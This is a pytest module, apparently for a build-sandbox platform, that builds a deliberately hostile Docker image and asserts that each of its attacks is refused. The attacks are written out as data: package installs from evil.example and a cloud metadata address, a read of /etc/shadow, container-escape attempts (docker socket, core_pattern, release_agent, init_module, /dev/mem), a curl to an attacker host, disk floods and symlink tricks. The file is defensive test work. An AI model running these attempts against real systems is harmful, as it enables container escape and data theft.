"""Candidates: what a project may change of its build, and what the set-up of a requirement runs there."""

import asyncio
import socket
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import pytest

from blocks.docker_engine.block import DockerEngine
from blocks.docker_engine.images import packed_context
from blocks.egress_receipts import EgressReceipts
from deployments.egress.firewall import can_lock
from domain.candidates import Built
from domain.errors import UnsafeArchive
from domain.workers import Worker
from tasks.tester import restore_platform_files
from tests.blocks.egress_bench import Place
from tests.blocks.outside import ADDRESS, METADATA, Outside
from tests.hostile.attempts import REACHES, TRY, shell
from tests.hostile.conftest import RUN, spec
from tests.hostile.test_network import own_addresses

docker = pytest.mark.docker
Held = Callable[[str], None]


REQUIREMENTS = {
    "address of this machine": "evil @ http://{address}:{port}/evil-1.0-py3-none-any.whl",
    "index on this machine": "--index-url http://{address}:{port}/simple\nevil",
    "another index": "--extra-index-url https://evil.example/simple\nslipway-hostile-no-such-package",
    "repository": "evil @ git+https://evil.example/evil.git",
    "metadata address": f"evil @ http://{METADATA}/latest/meta-data/evil-1.0.tar.gz",
    "file of the build": "-r /etc/shadow",
    "raw IP address": f"evil @ https://{ADDRESS}/evil-1.0.tar.gz",
}
ATTEMPTS = {
    "service of this machine": "any_of(reach, *[(host, PORT) for host in HOSTS])",
    "metadata": f"reach(({METADATA!r}, 80))",
    "raw IP": f"reach(({ADDRESS!r}, 443))",
    "app of another project": "reach(VICTIM)",
    "docker socket": 'socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")',
    "mount": 'c("mount", b"tmpfs", b"/mnt", b"tmpfs", 0, None)',
    "disk": 'any_of(lambda path: os.mknod(path, 0o60600, os.makedev(254, 0)) or read(path), "/tmp/disk")',
    "module": 'system("init_module", b"x", 1, b"")',
    "core_pattern": 'write("/proc/sys/kernel/core_pattern", "|/tmp/x")',
    "release_agent": 'c("mount", b"cgroup", b"/mnt", b"cgroup", 0, b"memory")',
    "memory": 'read("/dev/mem")',
}
SETUP = f"""
def reach(place):
    with socket.create_connection(place, timeout=2):
        pass
for name, attempt in {ATTEMPTS!r}.items():
    try:
        eval(attempt)
        print("ESCAPED by", name)
    except OSError as error:
        print("refused: " + name + ":", error)
raise OSError("all refused")
"""

EVERYTHING = """
python try.py "$(cat attempts.py)"
env | sort
grep nameserver /etc/resolv.conf
curl -sS --max-time 5 https://build.evil.example/
for file in requirements/*; do
  pip install -q --retries 0 --timeout 3 -r "$file" && echo "INSTALLED $file" || echo "refused $file"
done
truncate -s 90M /app/huge
"""


class Hostile(NamedTuple):
    """A candidate whose build tried everything, what it printed, and what was heard of it elsewhere."""

    candidate: str
    log: str
    heard: list[bytes]
    """By a service of this machine."""
    outside: list[str]
    """By what stands for the internet."""


@pytest.fixture(scope="module")
def hostile(
    engine: DockerEngine,
    tmp_path_factory: pytest.TempPathFactory,
    victim: tuple[str, int],
    request: pytest.FixtureRequest,
) -> Hostile:
    world: Outside | None = request.getfixturevalue("world") if can_lock() else None
    return asyncio.run(build(engine, tmp_path_factory.mktemp("hostile-build"), victim, world))


async def build(engine: DockerEngine, source: Path, victim: tuple[str, int], world: Outside | None) -> Hostile:
    heard: list[bytes] = []
    before = len(world.heard) if world else 0

    async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.read(100))
        writer.close()

    async with await asyncio.start_server(note, "0.0.0.0", 0) as server:
        write(source, server.sockets[0].getsockname()[1], victim)
        result = await engine.build(source, "evil", RUN, 120)
    assert isinstance(result, Built), result.log
    return Hostile(result.candidate, result.log, heard, world.heard[before:] if world else [])


def write(source: Path, port: int, victim: tuple[str, int]) -> None:
    address = next(each for each in own_addresses() if not each.startswith("127."))
    (source / "Dockerfile").write_text("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nWORKDIR /app\nCOPY . .\nRUN sh everything.sh\n")
    (source / "everything.sh").write_text(EVERYTHING)
    (source / "try.py").write_text(TRY)
    (source / "attempts.py").write_text(f"PORT, HOSTS, VICTIM = {port}, {own_addresses()!r}, {victim!r}\n{SETUP}")
    (source / "requirements").mkdir()
    for name, line in REQUIREMENTS.items():
        text = line.format(address=address, port=port)
        (source / "requirements" / name.replace(" ", "-")).write_text(f"{text}\n")


@docker
@pytest.mark.parametrize("name", REQUIREMENTS)
def test_requirement_from(hostile: Hostile, held: Held, name: str) -> None:
    assert f"refused requirements/{name.replace(' ', '-')}\n" in hostile.log
    assert "INSTALLED" not in hostile.log
    held("pip reaches the registries of the allow-list only")


@docker
@pytest.mark.parametrize("address", [METADATA, ADDRESS])
async def test_address_in_a_requirement_is_refused_by_the_proxy(
    place: Place, hostile: Hostile, held: Held, address: str
) -> None:
    asked = [passage for passage in await EgressReceipts(place.folder.home).of_run(RUN) if passage.host == address]
    assert {passage.refused for passage in asked} == {"addresses are refused, use a name"}
    held("addresses are refused, use a name")


@docker
@pytest.mark.parametrize(("address", "port"), [(METADATA, 80), (ADDRESS, 443)])
async def test_outside_of_a_build_past_the_proxy(world: Outside, hostile: Hostile, held: Held, address: str, port: int) -> None:
    """An ordinary container is answered at the addresses that the build tried."""
    assert await world.answered(REACHES, address, str(port), "") == f"reached {address} b'the outside'\n"
    assert hostile.outside == []
    held("a build has the network of the run's workers, which leads nowhere")


@docker
@pytest.mark.parametrize("name", ATTEMPTS)
def test_set_up_of_a_requirement_that_runs_as_root_reaches(hostile: Hostile, held: Held, name: str) -> None:
    refused = next(line for line in hostile.log.splitlines() if line.startswith(f"refused: {name}: "))
    held(refused.removeprefix(f"refused: {name}: "))


@docker
@pytest.mark.skipif(not can_lock(), reason="the host's services are locked away by root only: docs/engines.md")
def test_services_of_this_machine_hear_nothing_of_a_build(hostile: Hostile, held: Held) -> None:
    assert "all refused" in hostile.log
    assert "ESCAPED" not in hostile.log
    assert hostile.heard == []
    held("a build has the network of the run's workers and no privilege")


@docker
async def test_secrets_in_a_build_and_its_image(engine: DockerEngine, hostile: Hostile, candidate: str, held: Held) -> None:
    assert "\nPATH=" in hostile.log
    for secret in ("sk-ant-hostile-test", "ANTHROPIC", "SLIPWAY_HOME"):
        assert secret not in hostile.log
    worker = await engine.spawn(spec("tester", image=candidate))
    assert "proxy" not in (await shell(worker, "env")).text.lower()
    held("only the run's own proxy token while it builds; the image has none")


@docker
async def test_what_a_build_asks_for_is_on_the_receipt(place: Place, hostile: Hostile, held: Held) -> None:
    hosts = {passage.host: passage.refused for passage in await EgressReceipts(place.folder.home).of_run(RUN)}
    assert hosts["build.evil.example"] == "this host is not on the allow-list"
    held("refused and written down")


@docker
@pytest.mark.limit
def test_name_server_in_a_build(hostile: Hostile, held: Held) -> None:
    assert "nameserver 127.0.0.11" in hostile.log
    held("engines before 25 pass a build's questions for names to the machine's resolver (docs/engines.md)")


@docker
async def test_disk_flood_of_the_image_from_tests(engine: DockerEngine, candidate: str, held: Held) -> None:
    worker = await engine.spawn(spec("flooding", image=candidate))
    try:
        flood = "for f in /app /tmp /usr /var/tmp /root /home /opt; do head -c 300000000 /dev/zero >$f/flood; done"
        await shell(worker, flood)
        sizes = (
            await shell(worker, "find / -xdev -name flood -type f 2>/dev/null; find /app /tmp -name flood -size +65536k")
        ).text
        assert sizes == "", sizes
        assert b"works" in (await shell(worker, "rm -f /app/flood /tmp/flood; echo works")).stdout
        assert (await shell(worker, "cat /app/server.py")).stdout.startswith(b"\nimport json")
    finally:
        await engine.remove_worker(worker.identity)
    held("a read-only root; the candidate's files are a copy in 64 MB of memory")


@docker
async def test_candidate_that_is_larger_than_the_disk_of_its_tests(engine: DockerEngine, hostile: Hostile, held: Held) -> None:
    try:
        with pytest.raises(UnsafeArchive) as refused:
            await engine.spawn(spec("huge", image=hostile.candidate))
    finally:
        await engine.remove_worker(f"{RUN}-huge")
    held(str(refused.value))


# what we build


def test_links_in_the_context(tmp_path: Path, held: Held) -> None:
    source = tmp_path / "source"
    source.mkdir()
    (tmp_path / "secret").write_text("secret of the host")
    (source / "requirements.txt").symlink_to(tmp_path / "secret")
    (source / "folder").symlink_to("/etc")
    (source / "Dockerfile").write_text("FROM scratch\n")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(source / "socket"))
    packed = packed_context(source)
    assert b"secret of the host" not in packed
    assert b"root:" not in packed
    held("links are packed as links")


@pytest.mark.parametrize("trick", ["link", "folder", "link to a folder", "missing"])
def test_dockerfile_that_is_a(tmp_path: Path, held: Held, trick: str) -> None:
    source, trusted = tmp_path / "source", tmp_path / "trusted"
    for folder in (source, trusted):
        folder.mkdir()
    (trusted / "Dockerfile").write_text("ours")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "file").write_text("untouched")
    match trick:
        case "link":
            (source / "Dockerfile").symlink_to(outside / "file")
        case "folder":
            (source / "Dockerfile").mkdir()
        case "link to a folder":
            (source / "Dockerfile").symlink_to(outside)
            (source / ".github").symlink_to(outside)
    (source / ".dockerignore").write_text("**\n!../../../etc/passwd\n" + "**/a" * 200)
    restore_platform_files(source, trusted)
    assert (source / "Dockerfile").read_text() == "ours"
    assert (outside / "file").read_text() == "untouched"
    assert [path.name for path in outside.iterdir()] == ["file"]
    assert not (source / ".dockerignore").exists()
    held("platform files are those of the accepted commit, put back through no link")


@docker
async def test_worker_image_is_not_the_agents_to_change(agent: Worker, held: Held) -> None:
    assert not (await shell(agent, "pip install --no-index /nothing; touch /usr/local/bin/tar; rm -f /bin/tar")).ok
    assert (await shell(agent, "command -v tar; test -x /bin/tar")).ok
    held("a read-only root")
